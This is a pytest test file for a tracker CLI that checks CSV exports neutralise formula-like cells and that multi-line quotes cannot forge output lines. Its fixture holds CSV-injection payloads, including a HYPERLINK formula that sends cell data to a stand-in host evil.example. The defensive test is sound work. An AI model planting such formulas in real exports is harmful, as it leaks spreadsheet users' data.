"""Nothing a user writes can forge what a reader sees: CSV formulas, multi-line quotes."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

FORGED = "2025-01-20  President X → fulfilled (signed)"
QUOTE = f"We will build the bridge.\n{FORGED}\n\nAnd the road."


@pytest.fixture
def hostile(run) -> None:
    steps = [
        ["add", "bridge", "--title", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
         "--party", "@SUM(A1:A9)", "--on", "2025-01-10"],
        ["log", "--by", "+Caller", "-c", "bridge", "--on", "2025-01-11", "--", "-2+3"],
        ["add", "road", "--title", "A plain road", "--on", "2025-01-10"],
        ["log", QUOTE, "--by", "A Speaker", "-c", "road=agreed", "--on", "2025-01-12"],
    ]  # fmt: skip
    for step in steps:
        result = run(*step)
        assert result.exit_code == 0, result


def test_csv_cells_that_start_like_a_formula_are_neutralised(run, hostile):
    rows = list(csv.DictReader(io.StringIO(run("status", "--format", "csv").stdout)))
    bridge = next(r for r in rows if r["id"] == "bridge")
    assert bridge["title"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert bridge["parties"] == "'@SUM(A1:A9)"
    assert bridge["last_statement_quote"] == "'-2+3"
    assert bridge["last_statement_by"] == "'+Caller"
    road = next(r for r in rows if r["id"] == "road")
    assert road["title"] == "A plain road" and road["last_statement_quote"] == QUOTE


def test_the_csv_rule_is_in_the_help(run):
    text = " ".join(run("status", "--help").stdout.split())
    assert "a cell a spreadsheet would read as a formula (starting with =, +, -, @" in text


def forged_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if FORGED in line]


def test_status_detail_indents_every_line_of_a_quote(run, hostile):
    out = run("status", "road").stdout
    (line,) = forged_lines(out)
    assert line == "       " + FORGED
    assert "      “We will build the bridge.\n       " + FORGED + "\n\n       And the road.”" in out


def test_history_indents_a_quote_under_its_column(run, hostile):
    out = run("history").stdout
    header = out.splitlines()[0]
    (line,) = forged_lines(out)
    assert line == " " * header.index("WHAT") + FORGED


def test_remind_indents_a_quote_the_same_way(run, hostile):
    out = run("remind", "--now", "2026-06-01").stdout
    (line,) = forged_lines(out)
    start = next(x for x in out.splitlines() if "We will build the bridge." in x)
    assert line == " " * start.index("We will build") + FORGED


def test_a_terminal_width_keeps_the_quote_indented(run, hostile, monkeypatch):
    monkeypatch.setenv("COLUMNS", "60")
    for command in (["status", "road"], ["history"]):
        out = run(*command).stdout
        assert all(not x.startswith("2025-01-20") for x in out.splitlines())
        assert any(x.strip().startswith("2025-01-2") for x in out.splitlines())


def _hang_every_line(text: str, indent: int, limit: int | None) -> str:
    """`hang` without its shortcut for text of one line: split, strip, indent."""
    if limit is not None and len(text) > limit:
        text = text[: max(limit - 1, 0)] + "…"
    first, *rest = [line.rstrip() for line in text.splitlines()] or [""]
    return "\n".join([first, *(" " * indent + line if line else "" for line in rest)])


_LINE_BREAKS_AND_SPACES = "\n\r\v\f\x1c\x1d\x1e\x1f\x85\u2028\u2029 \t\xa0\u3000\u200b"


@given(
    text=st.text(st.one_of(st.characters(), st.sampled_from(_LINE_BREAKS_AND_SPACES))),
    indent=st.integers(0, 12),
    limit=st.one_of(st.none(), st.integers(0, 40)),
)
def test_hang_takes_a_line_as_it_is_only_when_splitting_would_change_nothing(text, indent, limit):
    from tracker.output.text import hang

    assert hang(text, indent, limit) == _hang_every_line(text, indent, limit)
